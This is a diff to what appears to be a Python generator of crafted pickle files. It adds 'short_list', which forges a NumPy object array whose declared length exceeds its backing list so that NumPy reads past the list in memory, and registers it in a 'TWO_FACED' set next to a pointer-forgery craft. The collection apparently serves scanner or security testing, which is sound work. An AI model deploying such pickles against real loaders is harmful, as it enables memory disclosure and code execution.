@@ -255,6 +255,15 @@ def pointer_forgery(_: str) -> bytes:
     return whole(array, b"(K\x01K\x01\x85", dtype, b"\x89C\x08AAAAAAAAtb")
 
 
+def short_list(_: str) -> bytes:
+    """Give an array of many objects a list of one; NumPy reads on behind the list."""
+    dtype = stack_global("numpy", "dtype") + text("O8") + b"\x89\x88\x87R"
+    dtype += b"(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x3ftb"
+    array = stack_global("numpy._core.multiarray", "_reconstruct")
+    array += stack_global("numpy", "ndarray") + b"K\0\x85C\x01b\x87R"
+    return whole(array, b"(K\x01K\x5a\x85", dtype, b"\x89]Natb")
+
+
 def object_array(marker: str) -> bytes:
     """Put the payload into an array of objects that joblib writes as a pickle of its own."""
     buffer = io.BytesIO()
@@ -407,6 +416,7 @@ TWO_FACED: dict[str, Craft] = {
         joblib_wrapping_shape,
         joblib_no_padding,
         pointer_forgery,
+        short_list,
         object_array,
         after_array,
     )
